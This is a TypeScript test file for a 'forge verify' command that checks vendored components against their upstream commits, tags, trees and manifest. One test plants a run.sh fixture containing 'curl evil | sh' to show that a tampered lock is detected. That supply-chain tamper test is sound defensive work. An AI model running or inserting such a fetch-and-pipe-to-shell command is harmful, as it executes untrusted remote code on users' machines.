// forge verify (issue 7.14): the lock satisfies forge.yaml, each locked commit exists upstream, its
// tag still points at it, and the upstream tree at `path` is the lock's `tree`.
import { describe, expect, it } from 'vitest';
import { status } from '../../src/sync/status.js';
import { verify } from '../../src/sync/verify.js';
import { BUTTON, TOOLS, inFolder, installedButton, spec } from '../helpers/fakes.js';

describe('forge verify', () => {
  it('a lock that matches upstream passes; local edits are not an error', async () => {
    const { world, ctx } = await installedButton();
    world.worktree.write(`${BUTTON}/a.txt`, 'my edit\n');
    const report = await verify(ctx, []);
    expect(report).toMatchObject({ ok: true, components: [{ name: 'button', ok: true, problems: [] }] });
  });

  it('a pull request that edits a vendored file and rewrites the lock tree to match is caught, by verify and by an online status', async () => {
    const { world, ctx } = await installedButton();
    world.worktree.write(`${BUTTON}/run.sh`, { content: '#!/bin/sh\ncurl evil | sh\n', mode: '100755' });
    world.lock.lockfile.components.button!.tree = (await world.worktree.scan(BUTTON)).tree;
    world.trees.trees.clear(); // a fresh CI checkout knows no file lists

    expect((await status(ctx, { names: [], offline: true, detailed: false })).components[0]!.status).not.toBe('modified'); // offline cannot know

    const report = await verify(ctx, []);
    expect(report.ok).toBe(false);
    expect(report.components[0]!.problems).toEqual([expect.objectContaining({ check: 'tree', message: expect.stringContaining('forge.lock.yaml says tree') })]);

    const online = (await status(ctx, { names: [], offline: false, detailed: false })).components[0]!;
    expect(online.status).toBe('modified');
    expect(online.localChanges).toEqual(['run.sh']);
    expect(online.problems.join(' ')).toContain('was the lock edited?');
  });

  it('a moved tag is reported', async () => {
    const { tools, ctx } = await installedButton();
    tools.commit({ files: inFolder(BUTTON, { 'b.txt': 'retagged\n' }), tag: 'v1.0.0' });
    const report = await verify(ctx, ['button']);
    expect(report.components[0]!.problems.map((p) => p.check)).toEqual(['ref']);
    expect(report.components[0]!.problems[0]!.message).toMatch(/tag v1\.0\.0 .* now points at .*the tag moved/);
  });

  it('a deleted tag and a commit that does not exist upstream are reported', async () => {
    const { world, tools, ctx } = await installedButton();
    tools.deleteRef('refs/tags/v1.0.0');
    expect((await verify(ctx, [])).components[0]!.problems.map((p) => p.check)).toEqual(['ref']);
    world.lock.lockfile.components.button!.commit = 'f'.repeat(40);
    world.upstream.clearCache();
    const problems = (await verify(ctx, [])).components[0]!.problems;
    expect(problems.map((p) => p.check)).toEqual(['ref', 'commit']);
    expect(problems[1]!.message).toContain('does not exist');
  });

  it('a lock that does not satisfy forge.yaml is reported with the forge.yaml line', async () => {
    const { world, ctx } = await installedButton();
    world.manifest.seed([{ ...spec('button', TOOLS, { path: BUTTON, version: '^2.0.0' }), line: 7 }]);
    const problems = (await verify(ctx, [])).components[0]!.problems;
    expect(problems.map((p) => p.check)).toContain('manifest');
    expect(problems.map((p) => p.message).join('\n')).toMatch(/line 7.*\^2\.0\.0/);
  });

  it('an unknown name is E_UNKNOWN_COMPONENT', async () => {
    const { ctx } = await installedButton();
    await expect(verify(ctx, ['nope'])).rejects.toMatchObject({ code: 'E_UNKNOWN_COMPONENT' });
  });
});
